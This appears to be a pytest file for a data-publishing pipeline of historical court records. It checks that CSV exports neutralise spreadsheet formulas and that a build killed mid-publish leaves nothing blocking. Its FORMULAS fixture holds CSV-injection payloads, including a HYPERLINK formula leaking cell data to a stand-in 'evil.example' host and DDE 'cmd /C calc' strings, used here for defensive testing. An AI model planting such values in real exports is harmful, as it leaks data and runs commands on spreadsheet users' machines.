"""Hostile cases of publishing: formulas in the CSV copies, and a build killed mid-publish."""

from __future__ import annotations

import csv
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import frictionless
import pandas as pd
import pytest
from click.testing import CliRunner

from etl.build import build
from etl.cli import cli
from etl.contribute.registry import add_source
from etl.project import Project
from etl.publish.package import publish
from etl.publish.release import make_release
from etl.version import DATA_VERSION
from tests.conftest import REPO

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "author": "@SUM(1+1)*cmd|' /C calc'!A0",
    "origin": "+cmd|' /C notepad'!A0",
    "license": "-2+3+cmd|' /C calc'!A0",
}
TEXT = "The court sentenced Orlov to ten years imprisonment.\n"


def read_back(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture(scope="module")
def hostile_release(tmp_path_factory) -> Path:
    """The seeds plus a text whose registry entry is made of spreadsheet formulas."""
    project = tmp_path_factory.mktemp("project")
    shutil.copytree(REPO.seeds, project / "seeds")
    shutil.copytree(REPO.root / "docs", project / "docs")  # the contract the copies quote
    text = project / "formulas.txt"
    text.write_text(TEXT, encoding="utf-8")
    add_source(text, source_id="formulas", written="1937", project=Project(project), **FORMULAS)
    release = build(Project(project), dist=project / "dist").release
    make_release(release.name, project / "dist", Project(project))
    return release


def test_csv_cells_that_start_a_formula_are_neutralised(hostile_release: Path):
    row = next(
        r
        for r in read_back(hostile_release / "csv" / "sources.csv")
        if r["source_id"] == "formulas"
    )
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    # The Parquet data and the SQLite copy keep the value as the registry gives it.
    parquet = pd.read_parquet(hostile_release / "data" / "sources.parquet")
    assert parquet.set_index("source_id").loc["formulas", "title"] == FORMULAS["title"]


def test_csv_numbers_stay_numbers_and_the_copy_stays_valid(hostile_release: Path):
    for name in ("sources", "sentences", "expulsion_stats", "trials"):
        parquet = pd.read_parquet(hostile_release / "data" / f"{name}.parquet")
        copy = pd.read_csv(hostile_release / "csv" / f"{name}.csv")
        for column in parquet.select_dtypes("number").columns:
            assert pd.api.types.is_numeric_dtype(copy[column]), (name, column)
            pd.testing.assert_series_equal(
                copy[column].astype("float64"), parquet[column].astype("float64"), check_names=False
            )
    assert frictionless.validate(hostile_release / "datapackage-csv.json").valid


def test_tab_and_carriage_return_openings_are_neutralised(hostile_release: Path, tmp_path: Path):
    """Values no extractor writes today, published through the same API."""
    frames = {
        name: pd.read_parquet(hostile_release / "data" / f"{name}.parquet")
        for name in ("sources", "persons", "mentions", "trials", "defendants", "sentences")
    }
    frames["expulsion_stats"] = pd.read_parquet(
        hostile_release / "data" / "expulsion_stats.parquet"
    )
    checks = pd.read_parquet(hostile_release / "data" / "checks.parquet")
    checks.loc[0, "message"] = "\t=1+1"
    checks.loc[1, "message"] = "\r@SUM(A1)"
    checks.loc[2, "message"] = "-42"  # text that looks like a number is still text
    frames["checks"] = checks
    release, _ = publish(frames, "9.9.9", tmp_path)
    make_release("9.9.9", tmp_path, Project(hostile_release.parent.parent))
    messages = [r["message"] for r in read_back(release / "csv" / "checks.csv")][:3]
    assert messages == ["'\t=1+1", "'\r@SUM(A1)", "'-42"]


# --- Crash safety ------------------------------------------------------------------------


def repository_files() -> list[str]:
    try:
        listed = subprocess.run(
            ["git", "ls-files", "-z"], cwd=REPO.root, capture_output=True, check=True
        ).stdout
    except (OSError, subprocess.CalledProcessError):
        pytest.skip("needs a git checkout of the project")
    return [name for name in listed.decode().split("\0") if name]


@pytest.fixture
def clone(tmp_path: Path) -> Path:
    """A copy of the repository's files, sharing this checkout's .venv and .tools, with
    two older releases in dist/ and not the current one, so that a build publishes it."""
    root = tmp_path / "clone"
    keep = ("dist/3.2.1/", "dist/3.3.0/")  # two older releases are enough, and quicker
    for name in repository_files():
        source = REPO.root / name
        if name.startswith("dist/") and not name.startswith(keep):
            continue
        if source.is_file():
            (root / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(source, root / name)
    for tool in (".venv", ".tools"):
        (root / tool).symlink_to(REPO.root / tool)
    return root


def run(clone: Path, *command: str) -> subprocess.CompletedProcess:
    # The clone's etl package comes first on the path, so every command works on the clone.
    env = {**os.environ, "PYTHONPATH": str(clone)}
    return subprocess.run(command, cwd=clone, env=env, capture_output=True, text=True, timeout=300)


@pytest.mark.skipif(sys.platform == "win32", reason="kill -9 is POSIX")
def test_a_build_killed_while_publishing_leaves_nothing_that_blocks(clone: Path):
    dist = clone / "dist"
    env = {**os.environ, "PYTHONPATH": str(clone)}
    build_process = subprocess.Popen(
        [str(clone / ".venv" / "bin" / "etl"), "build", "--quiet"],
        cwd=clone,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    staging = []
    deadline = time.monotonic() + 120
    while not staging and build_process.poll() is None and time.monotonic() < deadline:
        staging = [name for name in os.listdir(dist) if name.startswith(".staging-")]
        # Look every millisecond, not in a busy loop that takes a core from the build (and
        # from the other tests): the staging folder lives while eight files are written.
        time.sleep(0.001)
    build_process.send_signal(signal.SIGKILL)
    build_process.wait()
    assert staging, "the build ended before its staging folder was seen"
    # The folder names the version and the killed process; nothing was published.
    assert staging[0].startswith(f".staging-{DATA_VERSION}-{build_process.pid}-")
    assert (dist / staging[0]).is_dir()
    assert not (dist / DATA_VERSION).exists()

    # Every command tolerates the stale folder (run in this process: the same commands on
    # the clone, without importing the libraries again for each) ...
    older = sorted(p.name for p in dist.iterdir() if p.name[0].isdigit() and p.is_dir())[-1]
    for command in (["verify", dist / older], ["release"]):
        result = CliRunner().invoke(cli, [str(c) for c in ["--project", clone, *command]])
        assert result.exit_code == 0, (command, result.output)
    # ... and make, make release and etl verify succeed, and the build removed it.
    for command in (["make", "-o", ".venv/.stamp"], ["make", "-o", ".venv/.stamp", "release"]):
        result = run(clone, *command)
        assert result.returncode == 0, (command, result.stdout[-2000:], result.stderr[-2000:])
    assert not [name for name in os.listdir(dist) if name.startswith(".staging-")]
    result = CliRunner().invoke(cli, ["--project", str(clone), "verify"])
    assert result.exit_code == 0, result.output
    assert "OK" in result.output
    # The rebuilt release is the committed one.
    for name in ("data/sentences.parquet", "data/mentions.parquet"):
        assert (dist / DATA_VERSION / name).read_bytes() == (
            REPO.dist / DATA_VERSION / name
        ).read_bytes()
    assert (dist / DATA_VERSION / "SHA256SUMS").is_file()
